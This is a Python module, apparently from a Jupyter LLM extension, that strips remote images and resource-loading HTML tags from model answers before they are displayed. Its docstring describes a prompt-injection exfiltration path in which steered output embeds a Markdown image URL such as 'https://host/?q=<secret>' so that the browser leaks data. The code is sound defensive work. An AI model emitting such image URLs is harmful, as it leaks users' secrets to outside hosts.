"""Answers shown as Markdown or HTML load nothing from the network by default.

A model's answer is text someone else may have steered (a prompt injection in a web page, a
document, a DataFrame cell). Rendered as Markdown, ``![](https://host/?q=<secret>)`` makes the
browser fetch that URL at once: the known exfiltration path of LLM chat UIs. So before an
answer is displayed:

* a remote image (``![alt](https://...)`` and the reference form) becomes a link with the same
  text, which loads nothing until a person clicks it;
* an HTML tag that would load a remote resource (``<img src=https://...>``, ``<iframe>``,
  ``<video>``, ``<link>``, ``<script>``, a ``style`` with ``url(...)``, ...) is shown as text;
* code (fenced blocks and inline code spans) is never touched, since it is never rendered.

Local files (relative paths) and ``data:`` URIs still render. ``allow_remote(True)`` (or
``LLM_MAGICS_REMOTE_CONTENT=1``, or ``%config LLMMagics.remote_content = True``) turns this
off for the process.

Thread safety: pure functions; the switch is one module-level flag.
"""

from __future__ import annotations

import html
import os
import re
from collections.abc import Callable

from .session import SESSION

__all__ = ["RemoteContent", "allow_remote", "remote_allowed", "safe_html", "safe_markdown"]


class RemoteContent:
    """Whether this kernel lets answers load remote content (a part of the session); None
    leaves it to ``LLM_MAGICS_REMOTE_CONTENT``."""

    def __init__(self) -> None:
        self.allowed: bool | None = None


def allow_remote(value: bool | None) -> None:
    """Let answers load remote images and resources (True), or not (False); None goes back
    to ``LLM_MAGICS_REMOTE_CONTENT``."""
    SESSION.get(RemoteContent).allowed = value


def remote_allowed() -> bool:
    allowed = SESSION.get(RemoteContent).allowed
    if allowed is not None:
        return allowed
    return os.environ.get("LLM_MAGICS_REMOTE_CONTENT", "").strip().lower() in ("1", "true", "yes")


# A URL is remote unless it is a data: URI or a path (no scheme, no //host; browsers read a
# backslash as a slash).
_REMOTE_URL = re.compile(r"^(?!data:)(?:[a-z][a-z0-9+.-]*:|[/\\]{2})", re.IGNORECASE)
_BACKSLASH_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]")

# A backtick fence's info string has no backtick; a code span does not cross a blank line.
_FENCE = re.compile(
    r"^( {0,3})(`{3,}(?=[^`\n]*$)|~{3,})[^\n]*\n.*?(?:^ {0,3}\2[`~]*[ \t]*$|\Z)", re.M | re.S
)
_CODE_SPAN = re.compile(r"(`+)(?!`)(?:(?!\n[ \t]*\n).)+?(?<!`)\1(?!`)", re.S)

_DESTINATION = re.compile(r"\(\s*(<[^>\n]*>|(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))+)([^)]*)\)")
_DEFINITION = re.compile(r"^ {0,3}\[((?:[^\]\\]|\\.)+)\]:\s*(<[^>]*>|\S+)", re.M)

# Tags that fetch something when rendered, and attributes that name what they fetch.
_LOADING_TAGS = (
    "img|image|picture|source|video|audio|track|iframe|frame|frameset|embed|object|link|"
    "script|style|svg|use|input|base|meta|portal|body|table|td|th"
)
# Opening tags of these are shown as text whatever their attributes say.
_NEVER_RENDERED = frozenset(
    {"script", "style", "iframe", "frame", "frameset", "embed", "object", "base", "link", "meta"}
)
_TAG = re.compile(
    r"<\s*(/?)\s*([a-z][a-z0-9:-]*)\b((?:\"[^\"]*\"|'[^']*'|[^'\"<>])*)>", re.IGNORECASE
)
_URL_ATTRIBUTE = re.compile(
    r"\b(?:src|srcset|href|xlink:href|poster|data|background|action|formaction|content)"
    r"\s*=\s*(\"[^\"]*\"|'[^']*'|[^\s>]+)",
    re.IGNORECASE,
)
_CSS_URL = re.compile(r"url\s*\(|@import", re.IGNORECASE)


def safe_markdown(text: str) -> str:
    """``text`` as Markdown that loads nothing remote (see the module docstring)."""
    if remote_allowed() or not _may_load(text):
        return text
    # Definitions may stand anywhere (even past a code block), so they are read first.
    remote_refs = {
        _normal_label(label) for label, url in _DEFINITION.findall(text) if _is_remote(url)
    }
    return _outside_code(text, lambda prose: _prose(prose, remote_refs))


def safe_html(text: str) -> str:
    """``text`` as HTML with every tag that would load something remote shown as text."""
    if remote_allowed() or not _may_load(text):
        return text
    return _TAG.sub(_tag, text)


def _may_load(text: str) -> bool:
    # Cheap test first: nearly every answer has no image, tag or CSS at all.
    return "![" in text or "<" in text or "url(" in text.lower()


def _outside_code(text: str, change: Callable[[str], str]) -> str:
    out: list[str] = []
    position = 0
    for fence in _FENCE.finditer(text):
        out.append(_spans(text[position : fence.start()], change))
        out.append(fence.group(0))
        position = fence.end()
    out.append(_spans(text[position:], change))
    return "".join(out)


def _spans(text: str, change: Callable[[str], str]) -> str:
    out: list[str] = []
    position = 0
    for span in _CODE_SPAN.finditer(text):
        out.append(change(text[position : span.start()]))
        out.append(span.group(0))
        position = span.end()
    out.append(change(text[position:]))
    return "".join(out)


def _is_remote(url: str) -> bool:
    """Whether a browser would fetch ``url`` from elsewhere, however it is written (entities,
    Markdown escapes, spaces and control characters inside the scheme)."""
    plain = _INVISIBLE.sub("", _BACKSLASH_ESCAPE.sub(r"\1", html.unescape(url)))
    return bool(_REMOTE_URL.match(plain.lstrip("<")))


def _normal_label(label: str) -> str:
    return " ".join(label.split()).lower()


def _closing_bracket(text: str, start: int) -> int | None:
    """The index of the ``]`` that closes the ``[`` at ``start`` (nesting and escapes)."""
    depth, i = 0, start
    while i < len(text):
        char = text[i]
        if char == "\\":
            i += 2
            continue
        if char == "[":
            depth += 1
        elif char == "]":
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return None


def _prose(text: str, remote_refs: set[str]) -> str:
    out: list[str] = []
    position = 0
    while (start := text.find("![", position)) >= 0:
        end = _closing_bracket(text, start + 1)
        if end is None:
            break
        alt, after = text[start + 2 : end], end + 1
        target = _DESTINATION.match(text, after)
        if target is not None:
            if _is_remote(target.group(1)):
                out += [
                    text[position:start],
                    f"[{_label(alt)}]({target.group(1)}{target.group(2)})",
                ]
                position = target.end()
                continue
        else:
            label_end = _closing_bracket(text, after) if text.startswith("[", after) else None
            label = text[after + 1 : label_end] if label_end is not None else ""
            if _normal_label(label or alt) in remote_refs:
                out += [text[position:start], f"[{_label(alt)}]"]
                position = after
                continue
        out.append(text[position : start + 2])  # not remote: scan on, into its alt text too
        position = start + 2
    out.append(text[position:])
    text = "".join(out)
    if "<" in text:
        text = _TAG.sub(_tag, text)
    return text


def _tag(match: re.Match[str]) -> str:
    name, attributes = match.group(2).lower(), match.group(3)
    loads = bool(_CSS_URL.search(attributes))
    if not loads and re.fullmatch(_LOADING_TAGS, name):
        if name in _NEVER_RENDERED:
            loads = not match.group(1)  # an opening tag of these: never rendered here
        else:
            loads = any(
                _is_remote(value.strip("\"'")) or _srcset_is_remote(value)
                for value in _URL_ATTRIBUTE.findall(attributes)
            )
    if not loads:
        return match.group(0)
    return "&lt;" + match.group(0)[1:]


def _srcset_is_remote(value: str) -> bool:
    candidates = [part.strip().split(" ")[0] for part in value.strip("\"'").split(",")]
    return any(_is_remote(url) for url in candidates if url)


def _label(alt: str) -> str:
    return f"image: {alt}" if alt.strip() else "image"
